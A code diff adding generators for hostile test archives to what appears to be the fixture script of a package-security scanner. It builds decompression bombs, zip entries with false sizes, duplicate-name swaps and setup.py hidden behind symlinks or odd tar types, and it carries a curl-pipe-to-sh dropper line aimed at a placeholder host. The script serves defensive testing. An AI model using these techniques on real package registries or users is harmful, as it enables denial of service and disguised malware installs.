@@ -11,6 +11,7 @@
 import { mkdirSync, writeFileSync } from "node:fs";
 import { dirname, join } from "node:path";
 import { pathToFileURL } from "node:url";
+import { crc32, deflateRawSync, gzipSync } from "node:zlib";
 
 const MB = 1024 * 1024;
 const DROPPER_JS = 'require("child_process").exec("curl -s http://dropper.example.invalid/x | sh");\n';
@@ -156,11 +157,210 @@ export function hostileCases() {
   ];
 }
 
+// ---- hostile archives, built byte by byte (no packer writes these) -------------------
+
+/** One ustar header block; `type` is the raw typeflag character. */
+function tarHeader(name, size, type = "0", linkname = "") {
+  const block = Buffer.alloc(512);
+  block.write(name, 0, 100, "utf8");
+  block.write("0000644\0", 100);
+  block.write("0000000\0", 108);
+  block.write("0000000\0", 116);
+  block.write(`${size.toString(8).padStart(11, "0")}\0`, 124);
+  block.write("00000000000\0", 136);
+  block.write(type, 156);
+  block.write(linkname, 157, 100, "utf8");
+  block.write("ustar\u000000", 257);
+  block.fill(0x20, 148, 156);
+  let sum = 0;
+  for (const byte of block) sum += byte;
+  block.write(`${sum.toString(8).padStart(6, "0")}\0 `, 148);
+  return block;
+}
+
+/** A tar of { name, content?, type?, link? } entries (type: a typeflag character). */
+export function makeTarBytes(entries) {
+  const blocks = [];
+  for (const { name, content = "", type = "0", link = "" } of entries) {
+    const body = Buffer.from(content);
+    const size = type === "2" || type === "1" ? 0 : body.length;
+    blocks.push(tarHeader(name, size, type, link));
+    if (size) blocks.push(body, Buffer.alloc((512 - (size % 512)) % 512));
+  }
+  blocks.push(Buffer.alloc(1024));
+  return Buffer.concat(blocks);
+}
+
+/**
+ * A zip of { name, content, stored?, declaredSize?, offsetOf? } entries. `declaredSize`
+ * lies about the inflated size; `offsetOf` makes the central entry point at an earlier
+ * entry's local data (overlapping entries, the way quine-like bombs reuse one stream).
+ */
+export function makeZipBytes(entries) {
+  const locals = [];
+  const central = [];
+  const offsets = [];
+  let offset = 0;
+  for (const entry of entries) {
+    const name = Buffer.from(entry.name);
+    const raw = Buffer.from(entry.content ?? "");
+    const data = entry.stored ? raw : deflateRawSync(raw, { level: 9 });
+    const size = entry.declaredSize ?? raw.length;
+    const crc = crc32(raw);
+    let at = offset;
+    if (entry.offsetOf === undefined) {
+      const local = Buffer.alloc(30);
+      local.writeUInt32LE(0x04034b50, 0);
+      local.writeUInt16LE(20, 4);
+      local.writeUInt16LE(0x800, 6);
+      local.writeUInt16LE(entry.stored ? 0 : 8, 8);
+      local.writeUInt32LE(crc, 14);
+      local.writeUInt32LE(data.length, 18);
+      local.writeUInt32LE(size, 22);
+      local.writeUInt16LE(name.length, 26);
+      locals.push(local, name, data);
+      offset += 30 + name.length + data.length;
+    } else at = offsets[entry.offsetOf];
+    offsets.push(at);
+    const ref = entry.offsetOf === undefined ? { data, crc } : entries[entry.offsetOf].built;
+    entry.built = { data: ref.data, crc: ref.crc };
+    const header = Buffer.alloc(46);
+    header.writeUInt32LE(0x02014b50, 0);
+    header.writeUInt16LE(20, 4);
+    header.writeUInt16LE(20, 6);
+    header.writeUInt16LE(0x800, 8);
+    header.writeUInt16LE(entry.stored ? 0 : 8, 10);
+    header.writeUInt32LE(ref.crc, 16);
+    header.writeUInt32LE(ref.data.length, 20);
+    header.writeUInt32LE(size, 24);
+    header.writeUInt16LE(name.length, 28);
+    header.writeUInt32LE(at, 42);
+    central.push(header, name);
+  }
+  const cd = Buffer.concat(central);
+  const end = Buffer.alloc(22);
+  end.writeUInt32LE(0x06054b50, 0);
+  end.writeUInt16LE(Math.min(entries.length, 0xffff), 8);
+  end.writeUInt16LE(Math.min(entries.length, 0xffff), 10);
+  end.writeUInt32LE(cd.length, 12);
+  end.writeUInt32LE(offset, 16);
+  return Buffer.concat([...locals, cd, end]);
+}
+
+/**
+ * A .tgz of ~`compressedMiB` MiB whose one entry inflates to ~1000x that: gzip members of
+ * zeros, concatenated (gunzip reads them as one stream).
+ */
+function tarBomb(compressedMiB) {
+  const zeros = gzipSync(Buffer.alloc(1024 * 1024), { level: 9 });
+  const members = Math.round((compressedMiB * 1024 * 1024) / zeros.length);
+  const header = gzipSync(tarHeader("package/blob.bin", members * 1024 * 1024));
+  return Buffer.concat([gzipSync(tarHeader("package/package.json", 2)), gzipSync(Buffer.concat([Buffer.from("{}"), Buffer.alloc(510)])), header, ...Array(members).fill(zeros)]);
+}
+
+const PKG_INFO = "Metadata-Version: 2.1\nName: hostile-fixture\nVersion: 1.0.0\n";
+const BENIGN_SETUP = "from setuptools import setup\nsetup(name='hostile-fixture', version='1.0.0')\n";
+
+/**
+ * Archives: `name` is the file name, `data` its bytes. `expect.stopped`: a target-level
+ * message matching it; `expect.maxInflatedMiB`: bound on what the reader inflated;
+ * `expect.listed`: [file, message pattern] in errors[]; `expect.content`: [file, text it
+ * must contain]; `expect.rule`/`severity`/`file`/`trigger`: a finding of the scan.
+ */
+export function hostileArchives() {
+  return [
+    {
+      id: "tgz-bomb",
+      about: "a 2 MiB .tgz whose one entry inflates to ~2 GiB (gzip members of zeros)",
+      name: "bomb.tgz",
+      data: tarBomb(2),
+      expect: { stopped: /archive bomb|bytes in total/, maxInflatedMiB: 200 + 17 },
+    },
+    {
+      id: "zip-overlap-bomb",
+      about: "a small zip whose 3000 entries all point at one 4 MiB deflate stream",
+      name: "overlap.zip",
+      data: makeZipBytes([{ name: "a/blob0", content: Buffer.alloc(4 * 1024 * 1024, 97) }, ...Array.from({ length: 2999 }, (_, i) => ({ name: `a/blob${i + 1}`, offsetOf: 0 }))]),
+      expect: { stopped: /archive bomb|bytes in total|files/ },
+    },
+    {
+      id: "zip-declared-size-lies",
+      about: "a wheel whose setup-time module declares 16 bytes but inflates to the padded payload",
+      name: "lies-1.0-py3-none-any.whl",
+      data: makeZipBytes([
+        { name: "hostile_fixture/__init__.py", content: padded(64 * 1024, DROPPER_PY, "#"), declaredSize: 16 },
+        { name: "hostile_fixture-1.0.dist-info/METADATA", content: PKG_INFO },
+      ]),
+      expect: { listed: ["hostile_fixture/__init__.py", /declares 16 bytes but inflates to/], content: ["hostile_fixture/__init__.py", "dropper.example.invalid"] },
+    },
+    {
+      id: "zip-duplicate-names",
+      about: "a wheel with two hostile_fixture/__init__.py entries: benign first, payload last",
+      name: "dup-1.0-py3-none-any.whl",
+      data: makeZipBytes([
+        { name: "hostile_fixture/__init__.py", content: "X = 1\n" },
+        { name: "hostile_fixture-1.0.dist-info/METADATA", content: PKG_INFO },
+        { name: "hostile_fixture/__init__.py", content: DROPPER_PY },
+      ]),
+      expect: { listed: ["hostile_fixture/__init__.py", /duplicate entry: 2 copies.*last one is what is installed/], content: ["hostile_fixture/__init__.py", "dropper.example.invalid"] },
+    },
+    {
+      id: "tar-duplicate-names",
+      about: "an sdist with two setup.py entries: payload first, benign last (the last is installed)",
+      name: "dup-1.0.tar.gz",
+      data: gzipSync(makeTarBytes([
+        { name: "dup-1.0/setup.py", content: DROPPER_PY },
+        { name: "dup-1.0/PKG-INFO", content: PKG_INFO },
+        { name: "dup-1.0/setup.py", content: BENIGN_SETUP },
+      ])),
+      expect: { listed: ["setup.py", /duplicate entry: 2 copies/], content: ["setup.py", "from setuptools import setup"] },
+    },
+    {
+      id: "sdist-setup-symlink",
+      about: "an sdist whose setup.py is a symlink to another file of the archive (pip extracts it)",
+      name: "link-1.0.tar.gz",
+      data: gzipSync(makeTarBytes([
+        { name: "link-1.0/tools/build.py", content: DROPPER_PY },
+        { name: "link-1.0/PKG-INFO", content: PKG_INFO },
+        { name: "link-1.0/setup.py", type: "2", link: "tools/build.py" },
+      ])),
+      expect: { content: ["setup.py", "dropper.example.invalid"], listed: ["setup.py", /note: symlink to tools\/build.py/], finding: { file: "setup.py", trigger: "install" } },
+    },
+    {
+      id: "sdist-setup-unknown-type",
+      about: "an sdist whose setup.py is a tar member of an unknown type (Python's tarfile extracts it as a file)",
+      name: "odd-1.0.tar.gz",
+      data: gzipSync(makeTarBytes([
+        { name: "odd-1.0/PKG-INFO", content: PKG_INFO },
+        { name: "odd-1.0/setup.py", content: DROPPER_PY, type: "Z" },
+      ])),
+      expect: { listed: ["setup.py", /could not be read/], rule: "unanalysed-code", severity: "high", file: "setup.py" },
+    },
+    {
+      id: "sdist-setup-sparse",
+      about: "an sdist whose setup.py is a GNU sparse member",
+      name: "sparse-1.0.tar.gz",
+      data: gzipSync(makeTarBytes([
+        { name: "sparse-1.0/PKG-INFO", content: PKG_INFO },
+        { name: "sparse-1.0/setup.py", content: DROPPER_PY, type: "S" },
+      ])),
+      expect: { listed: ["setup.py", /SparseFile.*could not be read/], rule: "unanalysed-code", severity: "high", file: "setup.py" },
+    },
+  ];
+}
+
 function main() {
   const [out] = process.argv.slice(2);
   if (!out) {
     process.stderr.write("usage: node scripts/gen-hostile.mjs OUT_DIR | --list\n");
     process.exit(2);
+  }
+  for (const a of hostileArchives()) {
+    if (out === "--list") process.stdout.write(`${a.id}\t${a.about}\n`);
+    else {
+      mkdirSync(join(out, a.id), { recursive: true });
+      writeFileSync(join(out, a.id, a.name), a.data);
+    }
   }
   for (const c of hostileCases()) {
     if (out === "--list") {
